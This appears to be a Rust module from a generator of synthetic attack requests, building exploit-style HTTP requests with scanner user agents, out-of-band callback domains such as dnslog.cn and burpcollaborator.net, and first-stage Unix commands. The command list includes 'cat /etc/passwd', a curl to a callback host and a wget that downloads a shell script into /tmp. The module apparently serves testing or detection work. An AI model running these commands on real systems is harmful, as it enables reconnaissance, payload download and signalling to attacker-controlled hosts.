//! What attackers' tools have in common: their agents and headers, the hosts that wait for a call, the commands they run.

use super::super::super::codec;
use super::super::super::encode::Encoding;
use super::super::super::place::Place;
use super::super::super::rng::Rng;
use super::super::super::wire::{FORM, JSON, Part, Wire, multipart};

/// A request, where its payload stands and how it is encoded.
pub(super) type Shot = (Vec<u8>, Place, Encoding);

/// The headers that exploits are sent with: those of a library, of a scanner that plays a browser, or of a browser.
pub(super) fn sent(wire: Wire, rng: &mut Rng) -> Vec<u8> {
    let wire = match rng.below(8) {
        0 => wire.header("User-Agent", rng.pick(&["python-requests/2.28.2", "python-requests/2.18.4", "Python-urllib/3.9"])).header("Accept-Encoding", "gzip, deflate").header("Accept", "*/*").header("Connection", "keep-alive"),
        1 => wire.header("User-Agent", "Go-http-client/1.1").header("Accept-Encoding", "gzip"),
        2 => wire.program(rng.pick(&["curl/7.61.1", "curl/8.5.0", "Wget/1.21.3", "PostmanRuntime/7.36.1"])),
        // nuclei and xray take the name of an old browser.
        3 | 4 => wire.header("User-Agent", rng.pick(&["Mozilla/5.0 (Windows NT 10.0; rv:78.0) Gecko/20100101 Firefox/78.0", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36", "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2225.0 Safari/537.36", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_12_4) AppleWebKit/601.7.7 (KHTML, like Gecko) Version/9.1.2 Safari/601.7.7"])).header("Connection", "close").header("Accept-Encoding", "gzip"),
        5 => wire.header("User-Agent", "Mozilla/5.0").header("Accept", "text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2").header("Connection", "close"),
        _ => wire.desktop(rng),
    };
    wire.finish(rng)
}

pub(super) fn path(target: impl Into<String>, rng: &mut Rng) -> Shot {
    (sent(Wire::get(target), rng), Place::Path, Encoding::Plain)
}

pub(super) fn query(target: impl Into<String>, rng: &mut Rng) -> Shot {
    (sent(Wire::get(target), rng), Place::Query, Encoding::Plain)
}

pub(super) fn form(target: impl Into<String>, body: impl Into<Vec<u8>>, rng: &mut Rng) -> Shot {
    (sent(Wire::post(target, FORM, body), rng), Place::Form, Encoding::Plain)
}

pub(super) fn json(target: impl Into<String>, body: impl Into<Vec<u8>>, rng: &mut Rng) -> Shot {
    (sent(Wire::post(target, JSON, body), rng), Place::Json, Encoding::Plain)
}

pub(super) fn xml(target: impl Into<String>, body: impl Into<Vec<u8>>, rng: &mut Rng) -> Shot {
    let kind = rng.pick(&["text/xml", "application/xml", "text/xml; charset=UTF-8"]);
    (sent(Wire::post(target, kind, body), rng), Place::Xml, Encoding::Plain)
}

pub(super) fn parts(target: impl Into<String>, parts: &[Part<'_>], rng: &mut Rng) -> Shot {
    let (kind, body) = multipart(parts, rng);
    (sent(Wire::post(target, &kind, body), rng), Place::Multipart, Encoding::Plain)
}

/// A name that tells its owner who looked it up.
pub(super) fn domain(rng: &mut Rng) -> String {
    match rng.below(5) {
        0 => format!("{}.oast.fun", rng.word("abcdefghijklmnopqrstuvwxyz0123456789", 33)),
        1 => format!("{}.dnslog.cn", rng.letters(6)),
        2 => format!("{}.{}.ceye.io", rng.letters(4), rng.letters(6)),
        3 => format!("{}.burpcollaborator.net", rng.letters(30)),
        _ => format!("{}.eyes.sh", rng.letters(5)),
    }
}

/// Such a name, or an address with a port.
pub(super) fn callback(rng: &mut Rng) -> String {
    if rng.chance(80) {
        return domain(rng);
    }
    format!("203.0.113.{}:{}", rng.between(1, 254), rng.pick(&[80, 1389, 8000, 8888, 9999]))
}

/// What is run first on a Unix system: something that proves it, or something that calls.
pub(super) fn command(rng: &mut Rng) -> String {
    let word = rng.letters(5);
    match rng.below(12) {
        0 => "id".to_owned(),
        1 => "whoami".to_owned(),
        2 => "cat /etc/passwd".to_owned(),
        3 => format!("curl http://{}", callback(rng)),
        4 => format!("ping -c 3 {word}.dnslog.cn"),
        5 => format!("wget http://203.0.113.{}/{word}.sh -O /tmp/{word}", rng.below(255)),
        6 => format!("touch /tmp/{word}"),
        7 => format!("echo {word}|md5sum"),
        8 => format!("nslookup {}", domain(rng)),
        9 => "ifconfig".to_owned(),
        10 => format!("expr {} + {}", rng.digits(5), rng.digits(4)),
        _ => "uname -a".to_owned(),
    }
}

/// The same request, labelled as what carries its payload in base64.
pub(super) fn in_base64((bytes, place, _): Shot) -> Shot {
    (bytes, place, Encoding::Base64)
}

/// As programs escape a value in a target: what would end it or what servers refuse there, and no more.
pub(super) fn loose(value: impl AsRef<[u8]>) -> String {
    codec::percent_keeping(value.as_ref(), b"-_.~/;,:@!$'()*=[]")
}
